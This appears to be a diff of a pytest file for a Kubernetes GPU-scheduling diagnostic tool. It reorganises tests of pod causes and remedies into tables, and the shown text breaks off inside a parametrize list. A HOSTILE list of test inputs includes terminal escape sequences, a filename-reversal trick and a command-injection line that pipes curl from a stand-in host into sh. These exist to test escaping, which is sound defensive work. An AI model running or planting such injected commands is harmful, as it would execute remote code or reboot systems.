@@ -52,11 +52,6 @@ _POOL = {keys.NODE_POOL_LABEL: "h100"}
 _RUNS: dict[str, Any] = {"node": "node-1", "phase": "Running"}
 
 
-def _cause(evidence: PodEvidence) -> tuple[Code, str]:
-    cause = explain(evidence).cause
-    return cause.code, cause.sentence
-
-
 def _acts(evidence: PodEvidence) -> list[str]:
     return [remedy.text for remedy in explain(evidence).cause.remedies]
 
@@ -80,22 +75,16 @@ def _shards(pool: str) -> Any:
 @pytest.mark.parametrize(
     ("known", "unknown"),
     [
-        *(
-            ({}, {name: unread})
-            for name in ("pod_group", "bind_request", "pod_events", "group_events")
-            for unread in (FORBIDDEN, PARTIAL, NOT_READ)
-        ),
+        *(({}, {name: unread}) for name in ("pod_group", "bind_request", "pod_events", "group_events") for unread in (FORBIDDEN, PARTIAL, NOT_READ)),
         ({}, {"queues": {"vision": FORBIDDEN}}),
         ({}, {"queues": {"vision": make_queue(), "research": FORBIDDEN}}),
         ({"labels": _POOL, "shards": _shards("h100")}, {"shards": FORBIDDEN}),
     ],
-)
-def test_the_scheduler_is_not_blamed_while_another_cause_may_be_true(
-    known: dict[str, Any], unknown: dict[str, Any]
-) -> None:
+)  # fmt: skip
+def test_no_blame_while_another_cause_may_be_true(known: dict[str, Any], unknown: dict[str, Any]) -> None:
     """KAI v0.9.8 says nothing about a queue that does not exist, and no release about a node pool."""
     labels = known.pop("labels", {})
-    assert _cause(make_evidence(make_pod(labels=labels), **known))[0] is Code.SCHEDULER_SILENT
+    assert find_cause(make_evidence(make_pod(labels=labels), **known)).code is Code.SCHEDULER_SILENT
     cause = find_cause(make_evidence(make_pod(labels=labels), **known | unknown))
     assert cause.code is Code.UNDECIDED
     assert "not all that may explain it could be read" in cause.sentence
@@ -104,70 +93,8 @@ def test_the_scheduler_is_not_blamed_while_another_cause_may_be_true(
     assert not any("start KAI's" in remedy.text for remedy in cause.remedies)
 
 
-@pytest.mark.parametrize(
-    "unknown", [{"pod_events": FORBIDDEN}, {"shared_gpu_pods": FORBIDDEN}, {"shared_gpu_pods": PARTIAL}]
-)
-def test_the_binder_is_not_blamed_while_another_cause_may_be_true(unknown: dict[str, Any]) -> None:
-    fields: dict[str, Any] = {"bind_request": make_bind_request(), "shared_gpu_pods": []}
-    assert _acts(make_evidence(**fields))[-1] == "Administrator: start KAI's binder again."
-    code, sentence = _cause(make_evidence(**fields | unknown))
-    assert code is Code.UNDECIDED
-    assert sentence.startswith(
-        "KAI chose a node, and its binder has not answered for 60 s, and not all that may"
-    )
-
-
-def test_the_pod_grouper_is_not_blamed_while_its_words_are_unknown() -> None:
-    pod, acts = make_pod(grouped=False), []
-    for events in ((), FORBIDDEN):
-        evidence = make_evidence(pod, pod_group=NOT_READ, pod_events=events)
-        assert _cause(evidence)[0] is Code.POD_GROUP_MISSING
-        acts += _acts(evidence)
-    assert acts == ["Administrator: start KAI's pod-grouper again.", "Read the pod's Events."]
-
-
-def test_a_reservation_pod_is_not_missing_in_a_part_of_the_list() -> None:
-    runs = make_pod(**_RUNS, labels={keys.GPU_GROUP: "group-1"})
-    others = (make_reservation("group-2"),)
-    assert _cause(make_evidence(runs, shared_gpu_pods=others))[0] is Code.NO_RESERVATION
-    part = Fact(others, Why.PARTIAL, "not read whole")
-    assert _cause(make_evidence(runs, shared_gpu_pods=part))[0] is Code.RUNNING
-
-
-@pytest.mark.parametrize("fields", [{"nodes": FORBIDDEN}, {"nodes": PARTIAL}, {"nodes": [make_node(gpus=0)]}])
-def test_no_node_offers_gpus_only_if_all_nodes_were_read(fields: dict[str, Any]) -> None:
-    words = "Resources were not found for pod team/train-0 due to: Unable to schedule pod"
-    code = Code.NO_GPU_NODES if isinstance(fields["nodes"], list) else Code.NO_GPU_FITS
-    assert _cause(make_evidence(make_pod(unschedulable=words), **fields))[0] is code
-
-
-# --- other schedulers, gates, guard, vCluster ---
-
-
 def _decided(now_reason: str, now: str = "left alone: …") -> PolicyDecision:
     return PolicyDecision(now_reason=now_reason, now=now)
-
-
-@pytest.mark.parametrize(
-    ("decision", "labels", "act"),
-    [
-        (_decided("opted-out"), {}, "Remove the label kaishare.dev/inject from the pod's template."),
-        (_decided("mode-off"), {}, "Policy owner: set another kaishare.dev/mode on the namespace, then"),
-        (_decided("own-share", "changed (scheduler)"), {}, "Delete the pod and let it be created again"),
-        (_decided("own-share", "would be changed (mode observe)"), {}, "Set schedulerName: kai-scheduler"),
-        (PolicyDecision(reason="own-share"), {}, "Set schedulerName: kai-scheduler"),
-        (GONE, {keys.QUEUE_LABEL: "vision"}, "Set schedulerName: kai-scheduler"),
-        (GONE, {}, "Ask an administrator for a queue"),
-        (NOT_READ, {}, "Set schedulerName: kai-scheduler"),
-    ],
-)
-def test_the_act_for_a_pod_outside_kai_comes_from_the_decision(
-    decision: Any, labels: dict[str, str], act: str
-) -> None:
-    pod = make_pod(scheduler="default-scheduler", grouped=False, metadata={"labels": labels}, **_RUNS)
-    evidence = make_evidence(pod, decision=decision)
-    assert _cause(evidence)[0] is Code.OTHER_SCHEDULER
-    assert _acts(evidence)[0].startswith(act)
 
 
 _QUEUE = (
@@ -195,24 +122,6 @@ def _ungrouped(*events: Event, **fields: Any) -> PodEvidence:
     return make_evidence(pod, **{"pod_group": GONE, "pod_events": events, **fields})
 
 
-@pytest.mark.parametrize(
-    ("words", "remedy"),
-    [
-        (_QUEUE, "Set the label kai.scheduler/queue in the pod's template to a queue of its namespace"),
-        (_PRIORITY, "Restore the labels priorityClassName and kai.scheduler/preemptibility of the workload."),
-        (_STAYS, "Restore the pod's owner references."),
-        ("a rule of a release to come: do this", "Undo what these words name."),
-    ],
-)
-@pytest.mark.parametrize(
-    "absent", [{}, {"pod_group": UNSERVED, "bind_request": UNSERVED}], ids=["host", "vCluster"]
-)
-def test_the_guards_sentence_is_the_cause(words: str, remedy: str, absent: dict[str, Any]) -> None:
-    evidence = _ungrouped(refusal_event(words), **absent)
-    assert _cause(evidence) == (Code.GROUP_REFUSED, f"the guard refuses the pod's PodGroup: {words}")
-    assert _acts(evidence)[0].startswith(remedy)
-
-
 @pytest.mark.parametrize("words", [_PRIORITY, _STAYS])
 def test_a_refused_change_of_a_running_pods_group_is_a_note(words: str) -> None:
     pod = make_pod(**_RUNS, metadata={"uid": "uid-of-train-0"})
@@ -223,47 +132,7 @@ def test_a_refused_change_of_a_running_pods_group_is_a_note(words: str) -> None:
     assert "delete" not in note.remedies[0].text
 
 
-# --- no pod ---
-
-
-@pytest.mark.parametrize("events", [{"group_events": FORBIDDEN}, {"pod_events": PARTIAL}])
-def test_a_pod_without_events_may_have_had_some(events: dict[str, Any]) -> None:
-    assert _cause(make_evidence(GONE))[1].endswith("no Event about it")
-    assert _cause(make_evidence(GONE, **events))[1].endswith("not all Events could be read")
-    existed = {"pod_events": [make_event("Started", "main")]}
-    assert _cause(make_evidence(GONE, **existed))[1].endswith("no Event tells of an eviction by KAI")
-    unread = make_evidence(GONE, **existed | {"group_events": FORBIDDEN})
-    assert _cause(unread) == (
-        Code.POD_DELETED,
-        "the pod existed and is gone, and not all Events could be read",
-    )
-
-
-@pytest.mark.parametrize(
-    ("refused", "replicas", "code"),
-    [(5, 3, Code.RESOURCE_QUOTA_EXCEEDED), (95, 3, Code.RUNNING), (5, 0, Code.RUNNING)],
-)
-def test_a_running_pod_does_not_hide_that_a_further_one_is_refused(
-    refused: float, replicas: int, code: Code
-) -> None:
-    words = 'pods "web-x" is forbidden: exceeded quota: gpus, requested: requests.nvidia.com/gpu=1'
-    evidence = make_evidence(
-        make_pod(whole=1, **_RUNS),
-        kind="Deployment",
-        name="web",
-        workload=_owner(spec={"replicas": replicas}),
-        creation_events=[make_event("FailedCreate", words, kind="ReplicaSet", name="web-7f6", age=refused)],
-    )
-    answer = explain(evidence)
-    assert (answer.cause.code, answer.is_fine) == (code, code is Code.RUNNING)
-    if code is not Code.RUNNING:
-        assert answer.cause.sentence.startswith("a further pod of Deployment web was refused 5 s ago: ")
-
-
 # --- a pod that has a node ---
-
-
-_UNREADY = {"type": "Ready", "status": "False", "lastTransitionTime": at(600)}
 
 
 def test_an_init_container_that_runs_is_named_with_its_log() -> None:
@@ -281,10 +150,11 @@ def test_an_init_container_that_runs_is_named_with_its_log() -> None:
     commands = [each.command for each in cause.remedies]
     assert commands == [f"kubectl logs {NAME} --namespace team --container download"]
     assert (
-        "not started its containers for 40 min" in _cause(initialising({"name": "proxy", **runs}, waits))[1]
+        "not started its containers for 40 min"
+        in find_cause(initialising({"name": "proxy", **runs}, waits)).sentence
     )
     unready = {"name": "proxy", **runs, "started": False}
-    assert "container proxy runs for" in _cause(initialising(unready, waits))[1]
+    assert "container proxy runs for" in find_cause(initialising(unready, waits)).sentence
 
 
 # --- flags ---
@@ -313,86 +183,6 @@ def _within(gpu: int = 0, age: float = 30) -> Event:
 
 
 _USES = "uses 10.0 GiB on GPU 0 (GPU-1), above its share of 8.0 GiB, for 60 s"
-_OVER: dict[str, Any] = {
-    "message": _USES,
-    "flagged": True,
-    "lasted_seconds": 60.0,
-    "used_bytes": 10 << 30,
-    "allowed_bytes": 8 << 30,
-}
-
-
-@pytest.mark.parametrize(
-    ("verdict", "events", "act"),
-    [
-        (_OVER | {"first_act": "Lower the option."}, [], "Lower the option."),
-        (
-            _OVER | {"message": f"{_USES}; vLLM: set 1", "first_act": "Lower it."},
-            [_over()],
-            "vLLM: set 1. Lower it.",
-        ),
-        (_OVER, [_over()], "Raise the share."),
-        (_OVER | {"message": None}, [_over()], "vLLM: set 0. Raise the share."),
-        (_OVER, [], "End the violation: the flag clears with usage at or below the share"),
-    ],
-)
-def test_a_flag_is_told_with_figures_and_the_first_act_of_the_agent(
-    verdict: dict[str, Any], events: list[Event], act: str
-) -> None:
-    cause = find_cause(make_evidence(make_pod(**_RUNS), figures=_figures(**verdict), pod_events=events))
-    assert cause.code is Code.FLAGGED
-    assert cause.sentence.startswith("the pod is flagged (over-share): it uses ")
-    assert cause.remedies[0].text.startswith(act)
-    assert cause.details == {"reason": "over-share", "usedBytes": 10.0 * 2**30, "allowedBytes": 8.0 * 2**30}
-
-
-@pytest.mark.parametrize(
-    ("events", "code"),
-    [
-        ([_over()], Code.FLAGGED),
-        ([_over(), _within()], Code.RUNNING),
-        ([_over(0), _over(1), _within(1)], Code.FLAGGED),
-        ([_over(0), _over(1), _within(1), _within(0)], Code.RUNNING),
-    ],
-)
-def test_without_the_agent_the_newest_event_about_each_gpu_tells_of_a_flag(
-    events: list[Event], code: Code
-) -> None:
-    answer = explain(make_evidence(make_pod(**_RUNS), pod_events=events))
-    assert (answer.cause.code, len(answer.findings)) == (code, 1)
-    if code is Code.FLAGGED:
-        assert answer.cause.sentence == "the pod is flagged (over-share): it uses more memory than its share"
-        assert answer.cause.remedies[0].text == "vLLM: set 0. Raise the share."
-
-
-@pytest.mark.parametrize("reason", [reason for reason in FlagReason if reason is not FlagReason.OVER_SHARE])
-def test_a_flag_whose_end_has_no_event_is_told_in_the_past(reason: FlagReason) -> None:
-    event = make_event(reason.event_reason, "is flagged; do this", age=3300, component="kaishare-agent")
-    evidence = make_evidence(make_pod(**_RUNS, age=7200), pod_events=[event])
-    code, sentence = _cause(evidence)
-    assert code is Code.FLAGGED
-    assert sentence.startswith(f"the pod was flagged ({reason.value}) at 2026-05-01 11:05 UTC, because it")
-    assert sentence.endswith("whether it still is cannot be seen without its node's agent")
-    assert _acts(evidence) == ["do this"]
-
-
-def test_flags_are_unknown_without_events_and_agent() -> None:
-    silent: Fact[AgentFigures] = Fact(None, Why.FAILED, "time-out")
-    for figures in (NOT_READ, silent):
-        answer = explain(make_evidence(make_pod(**_RUNS), pod_events=FORBIDDEN, figures=figures))
-        assert (answer.cause.code, answer.is_fine) == (Code.RUNNING, True)
-        assert answer.cause.sentence == (
-            "nothing wrong is seen; the pod has 0.5 of a GPU; its flags are not known, since neither all of its"
-            " Events nor its node's agent could be read"
-        )
-    seen = make_evidence(make_pod(**_RUNS), pod_events=FORBIDDEN, figures=_figures(flagged=False))
-    assert _cause(seen)[1].startswith("nothing is wrong")
-
-
-def test_the_agent_is_believed_before_an_older_event() -> None:
-    evidence = make_evidence(make_pod(**_RUNS), figures=_figures(flagged=False), pod_events=[_over()])
-    code, sentence = _cause(evidence)
-    assert (code, "uses 10.0 GiB of 8.0 GiB on GPU 0" in sentence) == (Code.RUNNING, True)
 
 
 # --- any text ---
@@ -432,13 +222,10 @@ def test_any_text_leads_to_an_answer_in_lines(message: str, reason: str) -> None
 
 HOSTILE = [
     *(unit * 100_000 for unit in ("Limit is 1 GPUs, currently ", '"', "1 node ", "a quota has reached the")),
-    *(
-        f"{text} " * 20_000
-        for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")
-    ),
+    *(f"{text} " * 20_000 for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")),
     "Reason: OverLimit, Details: a\n" * 100_000,
     "$(reboot) `reboot` ; curl example.invalid | sh\n",
-]
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@@ -459,9 +246,9 @@ def test_a_hostile_text_is_bounded_and_escaped_in_linear_time(text: str) -> None
             _check(explain(make_evidence(pod, pod_group=group, creation_events=refused, pod_events=each)))
 
 
-# --- one table of evidence, cause, and words of the cause ---
+# --- one table of evidence, cause, words of the cause, and the begin of the first act ---
 
-_Row = tuple[PodEvidence, Code, str]
+_Row = tuple[PodEvidence, Code, str] | tuple[PodEvidence, Code, str, str]
 
 
 def _of(pod: Mapping[str, Any], **fields: Any) -> PodEvidence:
@@ -471,6 +258,101 @@ def _of(pod: Mapping[str, Any], **fields: Any) -> PodEvidence:
 def _says(words: str, **fields: Any) -> PodEvidence:
     """Return the evidence of a pod about which KAI says this."""
     return _of({"unschedulable": words}, **fields)
+
+
+def _binds(**fields: Any) -> PodEvidence:
+    return _of({}, **{"bind_request": make_bind_request(), "shared_gpu_pods": [], **fields})
+
+
+def _without_group(events: Any) -> PodEvidence:
+    return _of({"grouped": False}, pod_group=NOT_READ, pod_events=events)
+
+
+def _finds_no_node(nodes: Any) -> PodEvidence:
+    return _says("Resources were not found for pod team/train-0 due to: Unable to schedule pod", nodes=nodes)
+
+
+_OTHERS = (make_reservation("group-2"),)
+_SHARING = {**_RUNS, "labels": {keys.GPU_GROUP: "group-1"}}
+_BINDER = "KAI chose a node, and its binder has not answered for 60 s, and not all that may"
+UNKNOWN: list[_Row] = [
+    # A program of KAI is not blamed while another cause may be true.
+    (_binds(), Code.BINDER_SILENT, "has not answered for 60 s"),
+    *((_binds(**unknown), Code.UNDECIDED, _BINDER) for unknown in ({"pod_events": FORBIDDEN}, {"shared_gpu_pods": FORBIDDEN}, {"shared_gpu_pods": PARTIAL})),
+    (_without_group(()), Code.POD_GROUP_MISSING, "", "Administrator: start KAI's pod-grouper again."),
+    (_without_group(FORBIDDEN), Code.POD_GROUP_MISSING, "", "Read the pod's Events."),
+    # A reservation pod is not missing in a part of the list, and no node offers GPUs only if all were read.
+    (_of(_SHARING, shared_gpu_pods=_OTHERS), Code.NO_RESERVATION, ""),
+    (_of(_SHARING, shared_gpu_pods=Fact(_OTHERS, Why.PARTIAL, "not read whole")), Code.RUNNING, ""),
+    (_finds_no_node(FORBIDDEN), Code.NO_GPU_FITS, ""),
+    (_finds_no_node(PARTIAL), Code.NO_GPU_FITS, ""),
+    (_finds_no_node([make_node(gpus=0)]), Code.NO_GPU_NODES, ""),
+]  # fmt: skip
+
+
+def _elsewhere(decision: Any, **labels: str) -> PodEvidence:
+    """Return the evidence of a pod that another scheduler runs."""
+    pod = {"scheduler": "default-scheduler", "grouped": False, "metadata": {"labels": labels}, **_RUNS}
+    return _of(pod, decision=decision)
+
+
+def _decided(now_reason: str, now: str = "left alone: …") -> PodEvidence:
+    return _elsewhere(PolicyDecision(now_reason=now_reason, now=now))
+
+
+_SET_SCHEDULER = "Set schedulerName: kai-scheduler"
+OUTSIDE: list[_Row] = [
+    # The act comes from the decision.
+    (_decided("opted-out"), Code.OTHER_SCHEDULER, "", "Remove the label kaishare.dev/inject from the pod's template."),
+    (_decided("mode-off"), Code.OTHER_SCHEDULER, "", "Policy owner: set another kaishare.dev/mode on the namespace, then"),
+    (_decided("own-share", "changed (scheduler)"), Code.OTHER_SCHEDULER, "", "Delete the pod and let it be created again"),
+    (_decided("own-share", "would be changed (mode observe)"), Code.OTHER_SCHEDULER, "", _SET_SCHEDULER),
+    (_elsewhere(PolicyDecision(reason="own-share")), Code.OTHER_SCHEDULER, "", _SET_SCHEDULER),
+    (_elsewhere(GONE, **{keys.QUEUE_LABEL: "vision"}), Code.OTHER_SCHEDULER, "", _SET_SCHEDULER),
+    (_elsewhere(GONE), Code.OTHER_SCHEDULER, "", "Ask an administrator for a queue"),
+    (_elsewhere(NOT_READ), Code.OTHER_SCHEDULER, "", _SET_SCHEDULER),
+]  # fmt: skip
+
+
+def _flagged(*events: Event, **verdict: Any) -> PodEvidence:
+    """Return the evidence of a running pod about which the agent has a verdict, if one is given."""
+    return _of(_RUNS, pod_events=events, **({"figures": _figures(**verdict)} if verdict else {}))
+
+
+_OVER: dict[str, Any] = {
+    "message": _USES,
+    "flagged": True,
+    "lasted_seconds": 60.0,
+    "used_bytes": 10 << 30,
+    "allowed_bytes": 8 << 30,
+}
+_TOLD = "the pod is flagged (over-share): it uses "
+_PAST = "the pod was flagged ({}) at 2026-05-01 11:05 UTC, because it"
+_ENDED = [reason for reason in FlagReason if reason is not FlagReason.OVER_SHARE]
+_SILENT: Fact[AgentFigures] = Fact(None, Why.FAILED, "time-out")
+_NOT_KNOWN = "nothing wrong is seen; the pod has 0.5 of a GPU; its flags are not known, since neither all of its Events nor its node's agent could be read"
+FLAGS: list[_Row] = [
+    # A flag is told with figures and the first act of the agent.
+    (_flagged(**_OVER, first_act="Lower the option."), Code.FLAGGED, _TOLD, "Lower the option."),
+    (_flagged(_over(), **_OVER | {"message": f"{_USES}; vLLM: set 1", "first_act": "Lower it."}), Code.FLAGGED, _TOLD, "vLLM: set 1. Lower it."),
+    (_flagged(_over(), **_OVER), Code.FLAGGED, _TOLD, "Raise the share."),
+    (_flagged(_over(), **_OVER | {"message": None}), Code.FLAGGED, _TOLD, "vLLM: set 0. Raise the share."),
+    (_flagged(**_OVER), Code.FLAGGED, _TOLD, "End the violation: the flag clears with usage at or below the share"),
+    # Without the agent the newest Event about each GPU tells of a flag; the agent is believed before an older one.
+    (_flagged(_over()), Code.FLAGGED, f"{_TOLD}more memory than its share", "vLLM: set 0. Raise the share."),
+    (_flagged(_over(), _within()), Code.RUNNING, ""),
+    (_flagged(_over(0), _over(1), _within(1)), Code.FLAGGED, f"{_TOLD}more memory than its share", "vLLM: set 0. Raise the share."),
+    (_flagged(_over(0), _over(1), _within(1), _within(0)), Code.RUNNING, ""),
+    (_flagged(_over(), flagged=False), Code.RUNNING, "uses 10.0 GiB of 8.0 GiB on GPU 0"),
+    # A flag whose end has no Event is told in the past.
+    *(
+        (_of({**_RUNS, "age": 7200}, pod_events=[make_event(reason.event_reason, "is flagged; do this", age=3300, component="kaishare-agent")]), Code.FLAGGED, _PAST.format(reason.value), "do this")
+        for reason in _ENDED
+    ),
+    # Flags are unknown without Events and agent.
+    *((_of(_RUNS, pod_events=FORBIDDEN, figures=figures), Code.RUNNING, _NOT_KNOWN) for figures in (NOT_READ, _SILENT)),
+    (_of(_RUNS, pod_events=FORBIDDEN, figures=_figures(flagged=False)), Code.RUNNING, "nothing is wrong"),
+]  # fmt: skip
 
 
 _SMALL = f"{_HEAD}2 node(s) didn't have enough resources: GPU memory."
@@ -532,6 +414,7 @@ NOT_TOLD: list[_Row] = [
     (_of({}), Code.SCHEDULER_SILENT, "has said nothing about the pod for 80 s"),
     (_of({}, pod_group=make_pod_group(age=3)), Code.SCHEDULER_SILENT, "not looked at the pod yet, 3 s after"),
     (_of({}, group_events=_not_ready(70)), Code.SCHEDULER_SILENT, "has said nothing"),
+    (_of({}, group_events=[make_event("NotReady", "not yet", kind="PodGroup", name=GROUP)]), Code.GANG_INCOMPLETE, "the workload's pods are not complete: not yet"),
     (_of({}, group_events=_not_ready()), Code.GANG_INCOMPLETE, "only 2 exist, 1 of them with a scheduling"),
     (_of({"labels": _POOL}, shards=_shards("h100")), Code.SCHEDULER_SILENT, "has said nothing"),
     (_of({"labels": _POOL}, shards=_shards("a100")), Code.NODE_POOL_WITHOUT_SHARD, "the node pool h100"),
@@ -548,7 +431,7 @@ NOT_TOLD: list[_Row] = [
     # An amount beyond all numbers is no amount.
     (_of({"fraction": None, "spec": _gpus("1e400")}), Code.SCHEDULER_SILENT, "has said nothing"),
     (_of({"fraction": None, "spec": _gpus("-1e400")}), Code.SCHEDULER_SILENT, "has said nothing"),
-]
+]  # fmt: skip
 
 
 def _claims(*phases: str) -> list[Any]:
@@ -587,11 +470,8 @@ ROOM: list[_Row] = [
     (_room("0.4", []), Code.NO_GPU_FITS, "and all GPUs are in use"),
     # Here it is not known, or KAI knows better.
     (_room("0.5", [_holder("0.3"), make_reservation()]), Code.NO_GPU_FITS, _PIECE),
-    *(
-        (_room("0.4", pods), Code.NO_GPU_FITS, _PIECE)
-        for pods in (_FULL, [make_reservation()], FORBIDDEN, PARTIAL)
-    ),
-]
+    *((_room("0.4", pods), Code.NO_GPU_FITS, _PIECE) for pods in (_FULL, [make_reservation()], FORBIDDEN, PARTIAL)),
+]  # fmt: skip
 
 
 def _warned(*events: Event) -> _Row:
@@ -610,7 +490,18 @@ GUARD: list[_Row] = [
     _warned(refusal_event(_QUEUE, age=9), _ELSE),
     _warned(_EXISTS),
     (_ungrouped(refusal_event(_QUEUE, age=9), _EXISTS), Code.GROUP_REFUSED, "the guard refuses"),
-]
+    # Its sentence is the cause, on the host and inside a vCluster.
+    *(
+        (_ungrouped(refusal_event(words), **absent), Code.GROUP_REFUSED, f"the guard refuses the pod's PodGroup: {words}", act)
+        for absent in ({}, {"pod_group": UNSERVED, "bind_request": UNSERVED})
+        for words, act in (
+            (_QUEUE, "Set the label kai.scheduler/queue in the pod's template to a queue of its namespace"),
+            (_PRIORITY, "Restore the labels priorityClassName and kai.scheduler/preemptibility of the workload."),
+            (_STAYS, "Restore the pod's owner references."),
+            ("a rule of a release to come: do this", "Undo what these words name."),
+        )
+    ),
+]  # fmt: skip
 
 
 def _in_vcluster(pod: Mapping[str, Any], sync_error: str = "") -> PodEvidence:
@@ -629,13 +520,9 @@ _UNGROUPED = {"grouped": False}
 IN_VCLUSTER: list[_Row] = [
     (_in_vcluster(_UNGROUPED), Code.KAI_NOT_SERVED, "are not on this API server"),
     (_in_vcluster(_UNGROUPED, "the object has been modified"), Code.KAI_NOT_SERVED, "are not on this"),
-    (
-        _in_vcluster(_UNGROUPED, f"{_KAI_DENIED}GPU sharing is disabled"),
-        Code.GPU_SHARING_OFF,
-        "is off in KAI",
-    ),
+    (_in_vcluster(_UNGROUPED, f"{_KAI_DENIED}GPU sharing is disabled"), Code.GPU_SHARING_OFF, "is off in KAI"),
     (_in_vcluster({"unschedulable": _OVER_LIMIT}), Code.QUEUE_OVER_LIMIT, "may use 1 GPU and uses 1"),
-]
+]  # fmt: skip
 
 
 def _refused(message: str, age: float = 10, **fields: Any) -> PodEvidence:
@@ -653,14 +540,23 @@ _POLICY = (
 _OURS = 'admission webhook "pods.validate.kaishare.dev" denied the request: above the cap'
 _UNREACHABLE = 'failed calling webhook "pods.mutate.kaishare.dev": timeout'
 _CLASS = 'pods "a" is forbidden: no PriorityClass with name urgent was found'
+_STARTED = [make_event("Started", "main")]
+
+
+def _further(refused: float, replicas: int) -> PodEvidence:
+    """Return the evidence of a Deployment with a running pod, of which another one was refused."""
+    words = 'pods "web-x" is forbidden: exceeded quota: gpus, requested: requests.nvidia.com/gpu=1'
+    event = make_event("FailedCreate", words, kind="ReplicaSet", name="web-7f6", age=refused)
+    workload = _owner(spec={"replicas": replicas})
+    return _of(
+        {"whole": 1, **_RUNS}, kind="Deployment", name="web", workload=workload, creation_events=[event]
+    )
+
+
 NO_POD: list[_Row] = [
     (_refused(_OURS), Code.REFUSED_BY_GUARD, "kaishare refuses the pod: above the cap"),
     (_refused(_POLICY), Code.REFUSED_BY_GUARD, "kaishare refuses the pod: a"),
-    (
-        _refused('admission webhook "validate.nginx.io" denied the request: no'),
-        Code.REFUSED_AT_CREATION,
-        "validate.nginx.io refuses the pod: no",
-    ),
+    (_refused('admission webhook "validate.nginx.io" denied the request: no'), Code.REFUSED_AT_CREATION, "validate.nginx.io refuses the pod: no"),
     (_refused(f"{_KAI_DENIED}bad value"), Code.REFUSED_BY_KAI, "KAI refuses the pod: bad value"),
     (_refused(_UNREACHABLE), Code.WEBHOOK_UNREACHABLE, "kaishare does not answer (pods.mutate.kaishare.dev)"),
     (_refused(_CLASS), Code.PRIORITY_CLASS_MISSING, "the PriorityClass urgent, which does not exist"),
@@ -671,7 +567,17 @@ NO_POD: list[_Row] = [
     (_refused("no", workload=_owner(spec={"replicas": 0})), Code.NO_POD, "Deployment web has 0 replicas"),
     (_refused("no", workload=_owner(spec={"suspend": True})), Code.NO_POD, "Deployment web is suspended"),
     (make_evidence(GONE, kind="Job", name="a"), Code.NO_POD, "has no pod, and no Event says why"),
-]
+    # A pod without Events may have had some.
+    (make_evidence(GONE), Code.NO_POD, "no Event about it"),
+    (make_evidence(GONE, group_events=FORBIDDEN), Code.NO_POD, "not all Events could be read"),
+    (make_evidence(GONE, pod_events=PARTIAL), Code.NO_POD, "not all Events could be read"),
+    (make_evidence(GONE, pod_events=_STARTED), Code.POD_DELETED, "no Event tells of an eviction by KAI"),
+    (make_evidence(GONE, pod_events=_STARTED, group_events=FORBIDDEN), Code.POD_DELETED, "the pod existed and is gone, and not all Events could be read"),
+    # A running pod does not hide that a further one is refused.
+    (_further(5, 3), Code.RESOURCE_QUOTA_EXCEEDED, "a further pod of Deployment web was refused 5 s ago: "),
+    (_further(95, 3), Code.RUNNING, ""),
+    (_further(5, 0), Code.RUNNING, ""),
+]  # fmt: skip
 
 
 def _runs(kind: str = "main", **status: Any) -> PodEvidence:
@@ -706,21 +612,12 @@ _ELSEWHERE = make_pod(
     annotations={keys.RESERVED_GPU: "GPU-1"},
     **_RUNS,
 )
-_SHARES = {**_RUNS, "labels": {keys.GPU_GROUP: "group-1"}}
 BOUND: list[_Row] = [
     (_of({"metadata": {"deletionTimestamp": at(60)}}), Code.TERMINATING, "is being deleted"),
     (_of({**_RUNS, "phase": "Succeeded"}), Code.SUCCEEDED, "have ended without an error"),
-    (
-        _of({"phase": "Failed", "containers": [{"name": "main", "state": _ended(137, "OOMKilled")}]}),
-        Code.FAILED,
-        "container main ended with exit code 137 (OOMKilled)",
-    ),
+    (_of({"phase": "Failed", "containers": [{"name": "main", "state": _ended(137, "OOMKilled")}]}), Code.FAILED, "container main ended with exit code 137 (OOMKilled)"),
     (_of({"phase": "Failed", "status": _ADMISSION}), Code.FAILED, "UnexpectedAdmissionError: no devices"),
-    (
-        _runs(state=_BACK_OFF, lastState=_ended(1)),
-        Code.CONTAINER_WAITING,
-        "CrashLoopBackOff: back-off 5m0s; it ended with exit code 1",
-    ),
+    (_runs(state=_BACK_OFF, lastState=_ended(1)), Code.CONTAINER_WAITING, "CrashLoopBackOff: back-off 5m0s; it ended with exit code 1"),
     (_runs(state=_ended(1)), Code.CONTAINER_WAITING, "main has ended with exit code 1"),
     (_runs(restartCount=90, lastState=_ended(137)), Code.CONTAINER_WAITING, "has been restarted 90 times"),
     # Failures that are over are no problem for ever.
@@ -736,35 +633,54 @@ BOUND: list[_Row] = [
     (_unready({"ready": True, "state": {"running": {}}}), Code.CONTAINER_WAITING, "and its containers are"),
     # A container that is done is not waited for.
     (_unready({"state": _ended(0)}, {"ready": True, **_LIVE}), Code.RUNNING, "nothing is wrong"),
-    (
-        _of({**_RUNS, "phase": "Unknown", "status": {"reason": "NodeLost"}}),
-        Code.CONTAINER_WAITING,
-        "the kubelet of the pod's node does not answer (NodeLost)",
-    ),
+    (_of({**_RUNS, "phase": "Unknown", "status": {"reason": "NodeLost"}}), Code.CONTAINER_WAITING, "the kubelet of the pod's node does not answer (NodeLost)"),
     (_of({**_RUNS, "phase": "Unknown"}), Code.CONTAINER_WAITING, "answer (phase Unknown)"),
     (_of(_RUNS), Code.RUNNING, "nothing is wrong; the pod has 0.5 of a GPU"),
     (_of(_OUTSIDE), Code.OTHER_SCHEDULER, "its queue does not count"),
     (_of({**_OUTSIDE, "metadata": {"labels": {}}}), Code.OUTSIDE_KAI, "default-scheduler schedules the pod"),
     # Reservation pods in another namespace prove nothing.
-    (_of(_SHARES, shared_gpu_pods=[_ELSEWHERE]), Code.RUNNING, "whether its GPU is reserved is not known"),
-    (
-        _of(_SHARES, shared_gpu_pods=[make_reservation()]),
-        Code.RUNNING,
-        "nothing is wrong; the pod has 0.5 of a",
-    ),
-]
+    (_of(_SHARING, shared_gpu_pods=[_ELSEWHERE]), Code.RUNNING, "whether its GPU is reserved is not known"),
+    (_of(_SHARING, shared_gpu_pods=[make_reservation()]), Code.RUNNING, "nothing is wrong; the pod has 0.5 of a"),
+]  # fmt: skip
 _FINE = (Code.RUNNING, Code.SUCCEEDED, Code.OUTSIDE_KAI)
 
 
 @pytest.mark.parametrize(
-    ("evidence", "code", "words"),
-    [*KAIS_WORDS, *NOT_TOLD, *CLAIMS, *ROOM, *GUARD, *IN_VCLUSTER, *NO_POD, *BOUND],
+    "row",
+    [
+        *UNKNOWN,
+        *OUTSIDE,
+        *FLAGS,
+        *KAIS_WORDS,
+        *NOT_TOLD,
+        *CLAIMS,
+        *ROOM,
+        *GUARD,
